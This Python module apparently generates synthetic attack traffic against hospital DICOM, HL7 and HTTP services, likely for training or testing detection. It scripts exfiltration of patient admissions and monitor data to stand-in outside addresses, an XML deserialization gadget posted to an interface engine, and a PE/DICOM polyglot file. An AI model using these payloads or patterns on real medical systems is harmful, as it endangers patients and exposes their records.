"""Attacks on DICOM, HL7 and what cares for patients. Each plays itself and returns its end, attackers, victims, ports and protocol."""

import speech
from day import IMAGERS
from speech import CT, MR, STUDY_FIND, VERIFICATION
from wire import CLIENT, SERVER

EVIL, DROP = "192.0.2.66", "203.0.113.99"


def ae_title_guessing(h, t):
    """Forty called titles at the archive, all rejected"""
    for n in range(40):
        link = h.open(t, "intruder", "pacs", 104)
        asked, _ = speech.association("STORESCU", f"PACS{n}", [VERIFICATION])
        t = link.talk([asked, speech.rejection(7)]).close() + 0.8
    return t, ["intruder"], ["pacs"], [104], "dicom"


def default_title(h, t):
    """An unknown title is let in by the archive and verifies"""
    link = h.open(t, "intruder", "pacs", 104)
    link.talk(speech.association("FINDSCU", "ANY-SCP", [VERIFICATION])).talk(speech.echo(1)).talk(speech.RELEASE)
    return link.close(), ["intruder"], ["pacs"], [104], "dicom"


def query_harvest(h, t):
    """A reading station lists all patients: empty keys, five hundred answers a time"""
    link = h.open(t, "read2", "pacs", 104)
    link.talk(speech.association("READ2", "PACS", [STUDY_FIND]))
    for n in range(6):
        answers = [speech.study_keys(patient=f"P{n}{k:05d}", name=f"HARVEST^{k}", study=f"2.25.{n}{k}") for k in range(500)]
        link.talk(speech.find(n + 1, 1, STUDY_FIND, speech.study_keys(name="*"), answers))
    return link.talk(speech.RELEASE).close(), ["read2"], ["pacs"], [104], "dicom"


def move_to_stranger(h, t):
    """The archive is asked to send studies to a title nobody uses, at the intruder's"""
    h.reading(t, "read1", studies=2, destination=("intruder", "EXFIL"))
    return t + 30, ["read1", "intruder"], ["pacs"], [104, 11112], "dicom"


def bulk_retrieval(h, t):
    """A reading station fetches sixty studies one after the other"""
    for _ in range(60):
        h.reading(t, "read3")
        t += 1.6
    return t, ["read3"], ["pacs"], [104, 4104], "dicom"


def rogue_store(h, t):
    """An office PC stores an image in the archive"""
    device = IMAGERS["ct"][0]
    end = h.send_images(t, "pc11", "pacs", 104, "CT_A", "PACS", CT, h.uid(), h.patient(), device, 3, 32768)
    return end, ["pc11"], ["pacs"], [104], "dicom"


def malformed_dicom(h, t):
    """Lengths beyond sense and unknown PDUs at the archive"""
    for n, data in enumerate((speech.pdu(1, h.network.noise(900))[:2] + b"\xff\xff\xff\xf0" + h.network.noise(900), b"\x5a\0\0\0\0\x10" + bytes(16), speech.pdu(4, h.network.noise(300)))):
        link = h.open(t + n * 2, "intruder", "pacs", 104)
        if n != 1:
            link.talk(speech.association("X", "PACS", [VERIFICATION]))
        link.send(CLIENT, data).send(SERVER, speech.pdu(7, b"\0\0\2\0"))
        link.reset(SERVER)
    return t + 8, ["intruder"], ["pacs"], [104], "dicom"


def association_exhaustion(h, t):
    """Sixty associations that stay open and say nothing"""
    for n in range(60):
        h.open(t + n * 0.2, "intruder", "vna", 11112).talk(speech.association(f"IDLE{n}", "VNA", [VERIFICATION]))
    return t + 14, ["intruder"], ["vna"], [11112], "dicom"


def image_changed(h, t):
    """An image reaches the second archive with other pixels than it had"""
    device, study, patient = IMAGERS["mr"][0], h.uid(), h.patient()
    end = h.send_images(t, "mr", "pacs", 104, "MR_A", "PACS", MR, study, patient, device, 4, 16384)
    end = h.send_images(end + 10, "pacs", "vna", 11112, "PACS", "VNA", MR, study, patient, device, 4, 16384, changed=True)
    return end, ["pacs"], ["vna"], [11112, 104], "dicom"


def spoofed_sender(h, t):
    """An office PC says it is the hospital information system and discharges patients at the RIS"""
    for n in range(5):
        h.say(t + n * 3, "pc14", "ris", 6701, "KIS", "RIS", "ADT^A03", speech.adt(h.patient(), "A03", t))
    return t + 15, ["pc14"], ["ris"], [6701], "hl7"


def replay(h, t):
    """What the engine sent the laboratory half an hour ago is sent again, word for word, in the engine's name"""
    link = h.open(t, "hie", "lis", 6702)
    for _, _, _, control, message in [m for m in h.sent if m[:2] == ("hie", "lis")][:25]:
        link.send(CLIENT, message, 0.3).send(SERVER, speech.acknowledgement("LIS", "MSH", "HIE", control, link.t), 0.01)
    return link.close(), ["hie"], ["lis"], [6702], "hl7"


def message_flood(h, t):
    """Four thousand results in twenty seconds to the engine"""
    link = h.open(t, "pc14", "hie", 6662)
    for n in range(4000):
        link.send(CLIENT, speech.hl7("LIS", "MSH", "HIE", "ORU^R01", f"F{n}", t, speech.results(h.patients[n % 160], t, ["HB^HB||9|g/L"])), 0.004)
    return link.close(), ["pc14"], ["hie"], [6662], "hl7"


def endless_frame(h, t):
    """A message that never ends, a few bytes now and then"""
    link = h.open(t, "intruder", "hie", 6661)
    link.send(CLIENT, b"\x0bMSH|^~\\&|A|B|C|D|20260101||ADT^A08|1|P|2.4\r")
    for n in range(60):
        link.send(CLIENT, b"OBX|%d|TX|" % n + b"A" * 400, 1.2)
    return link.t, ["intruder"], ["hie"], [6661], "hl7"


def query_by_message(h, t):
    """Demographic queries for name after name at the engine"""
    link = h.open(t, "pc03", "hie", 6661)
    for n in range(80):
        link.send(CLIENT, speech.hl7("APP", "MSH", "HIE", "QBP^Q22", f"Q{n}", t, [f"QPD|IHE PDQ Query|T{n}|@PID.5.1^N{n}*", "RCP|I"], "2.5"), 0.3)
        link.send(SERVER, speech.hl7("HIE", "MSH", "APP", "RSP^K22", f"K{n}", t, [f"MSA|AA|Q{n}", f"QAK|T{n}|OK", speech.pid(h.patients[n])], "2.5"), 0.02)
    return link.close(), ["pc03"], ["hie"], [6661], "hl7"


def patients_to_outside(h, t):
    """The engine sends admissions to an address outside"""
    link = h.open(t, "hie", DROP, 2575)
    for n in range(10):
        link.send(CLIENT, speech.hl7("HIE", "MSH", "CLOUD", "ADT^A01", f"O{n}", t, speech.adt(h.patients[n], "A01", t)), 1)
        link.send(SERVER, speech.acknowledgement("CLOUD", "MSH", "HIE", f"O{n}", t), 0.02)
    return link.close(), ["hie", DROP], [], [2575], "hl7"


def monitor_calls_home(h, t):
    """A bedside monitor sends its measurements to an address outside, port 515"""
    h.open(t, "bed03", EVIL, 515).send(CLIENT, b"\x02paper\n" + h.network.noise(5000)).close()
    return t + 2, ["bed03", EVIL], [], [515], "tcp"


def open_pacs_web(h, t):
    """The archive's REST interface gives its patients to anybody"""
    link = h.open(t, "intruder", "pacs", 8042)
    for path in ("/system", "/patients", "/studies?expand", "/instances"):
        link.send(CLIENT, speech.request("GET", path, "pacs:8042", "python-requests/2.28"), 0.5).send(SERVER, speech.reply("200 OK", b'["0a1b2c3d-4e5f-0a1b"]' * 200))
    return link.close(), ["intruder"], ["pacs"], [8042], "http"


def engine_exploit(h, t):
    """An XML document with a gadget is posted to the interface engine's administration"""
    body = b"<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"org.apache.commons.lang3.event.EventUtils$EventBindingInvocationHandler\"/></dynamic-proxy></sorted-set>"
    link = h.open(t, "intruder", "hie", 8080)
    link.send(CLIENT, speech.request("POST", "/api/users", "hie:8080", "python-requests/2.28", "X-Requested-With: OpenAPI\r\nContent-Type: application/xml\r\n", body))
    link.send(SERVER, speech.reply("500 Internal Server Error", b"", "text/plain"))
    return link.close(), ["intruder"], ["hie"], [8080], "http"


def program_in_image(h, t):
    """A PC stores a DICOM file that begins as a program on the file server"""
    share = speech.Share(h.network, "files", "wards")
    content = b"MZ\x90\0" + bytes(124) + b"DICM" + speech.data_set(((0x00020010, "UI", b"1.2.840.10008.1.2.1"),)) + h.network.noise(20000)
    share.open("scans\\head.dcm", 5, 0x12019F).write(content).close()
    return h.open(t, "pc23", "files", 445).talk(share.turns).close(), ["pc23"], ["files"], [445], "smb"


def interface_refuses(h, t):
    """The laboratory refuses every third order"""
    for n in range(45):
        link = h.links["hie", "lis", 6702]
        link.t = max(link.t, t + n * 2)
        control = f"HIE{h.number('HIE')}"
        link.send(CLIENT, speech.hl7("HIE", "MSH", "LIS", "ORM^O01", control, link.t, [speech.pid(h.patient()), f"ORC|NW|8{n}", "OBR|1|||CBC^Blood count"]))
        link.send(SERVER, speech.acknowledgement("LIS", "MSH", "HIE", control, link.t, "AE" if n % 3 == 0 else "AA"), 0.02)
    return t + 92, ["lis", "hie"], ["lis", "hie"], [6702], "hl7"


def monitors_silent(h, t):
    """The gateway of the bedside monitors says nothing any more"""
    h.vitals = lambda t: None
    return t + 1200, ["gateway"], ["gateway"], [6663], "hl7"
